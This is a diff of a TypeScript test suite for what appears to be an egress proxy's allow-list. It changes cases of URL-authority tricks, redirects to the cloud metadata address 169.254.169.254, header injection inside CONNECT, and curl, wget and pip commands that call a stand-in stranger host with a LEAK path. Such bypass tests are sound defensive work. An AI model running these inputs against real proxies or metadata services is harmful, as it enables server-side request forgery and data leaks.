@@ -38,13 +38,13 @@ const LITERALS: [spelling: string, ends: Ending][] = [
   ['[127.0.0.1]', 'badAuthority'],
   ['%31%32%37.0.0.1', 'badAuthority'],
   ['127.0.0.1%00.allowed.example', 'badAuthority'],
-  ['127。0。0。1', 'badAuthority'],
 ];
 
 const WRITTEN: [what: string, authority: string, ends: Ending][] = [
   ['user information before the host', 'allowed.example@stranger.example', 'badAuthority'],
   ['user information that looks like a port', 'allowed.example:80@stranger.example', 'badAuthority'],
-  ['a backslash', 'stranger.example\\\\\\\\@allowed.example', 'badAuthority'],
+  ['a backslash', 'stranger.example\\\\@allowed.example', 'badRequest'],
+  ['full stops of another script', '127\\xe3\\x80\\x820\\xe3\\x80\\x820\\xe3\\x80\\x821', 'badRequest'],
   ['an escaped slash', 'stranger.example%2f.allowed.example', 'badAuthority'],
   ['an escaped dot', 'stranger%2eexample', 'badAuthority'],
   ['two dots at the end', 'allowed.example..', 'badAuthority'],
@@ -61,7 +61,7 @@ const WRITTEN: [what: string, authority: string, ends: Ending][] = [
   ['a name that IDNA would not write', 'xn--a.allowed.example', 'badAuthority'],
   ['a label of 64 characters', `${'a'.repeat(64)}.allowed.example`, 'badAuthority'],
   ['a name of 300 characters', `${'a.'.repeat(145)}allowed.example`, 'badAuthority'],
-  ['the Kelvin sign for a k', 'stran\\u212Aer.example', 'badAuthority'],
+  ['the Kelvin sign for a k', 'stran\\xe2\\x84\\xaaer.example', 'badRequest'],
 ];
 
 const NAMES: [what: string, host: string, ends: Ending][] = [
@@ -200,25 +200,25 @@ export const NAMED: Attempt[] = [
   {
     name: 'a redirect to the metadata service',
     under,
-    run: 'curl -sS -m 5 -L http://allowed.example/redirect/http%3A%2F%2F169.254.169.254%2FLEAK',
+    run: 'curl -sS -m 5 -L http://allowed.example/redirect/http%3A%2F%2F169.254.169.254%2F%4CEAK',
     ends: 'ipLiteral',
   },
   {
     name: 'a redirect to an allowed name that leads inside',
     under,
-    run: 'curl -sS -m 5 -L http://allowed.example/redirect/http%3A%2F%2Ften.allowed.example%2FLEAK',
+    run: 'curl -sS -m 5 -L http://allowed.example/redirect/http%3A%2F%2Ften.allowed.example%2F%4CEAK',
     ends: 'privateAddress',
   },
   {
     name: 'a redirect to a stranger over TLS',
     under,
-    run: 'curl -sSk -m 5 -L https://allowed.example/redirect/https%3A%2F%2Fstranger.example%2FLEAK',
+    run: 'curl -sSk -m 5 -L https://allowed.example/redirect/https%3A%2F%2Fstranger.example%2F%4CEAK',
     ends: 'notAllowed',
   },
   {
     name: 'a request of wget’s for a stranger',
     under,
-    run: 'wget -T 5 -O- http://stranger.example/LEAK',
+    run: 'http_proxy=http://127.0.0.2:8080 timeout 4 wget -O- http://stranger.example/LEAK',
     ends: 'notAllowed',
   },
   {
@@ -254,7 +254,7 @@ export const NAMED: Attempt[] = [
   {
     name: 'an installation of pip’s from a stranger',
     under,
-    run: 'timeout 10 pip download --retries 0 --break-system-packages -i https://stranger.example/LEAK/ six',
+    run: 'timeout 10 pip download --retries 0 -i https://stranger.example/LEAK/ six',
     ends: 'notAllowed',
   },
   {
@@ -285,13 +285,13 @@ export const NAMED: Attempt[] = [
     name: 'a fragment that hides a host',
     under,
     run: get('http://allowed.example#@stranger.example/LEAK', 'allowed.example'),
-    ends: 'badAuthority',
+    ends: 'badRequest',
   },
   {
     name: 'a backslash before an at sign',
     under,
-    run: get('http://allowed.example\\\\\\\\@stranger.example/LEAK', 'allowed.example'),
-    ends: 'badAuthority',
+    run: get('http://allowed.example\\\\@stranger.example/LEAK', 'allowed.example'),
+    ends: 'badRequest',
   },
   {
     name: 'a tab in the request target',
@@ -317,7 +317,7 @@ export const NAMED: Attempt[] = [
     name: 'a line break inside CONNECT',
     under,
     run: say('CONNECT allowed.example:443\\nHost: LEAK HTTP/1.1\\r\\n\\r\\n'),
-    ends: 'badRequest',
+    ends: 'badAuthority',
   },
   {
     name: 'CONNECT without a port',
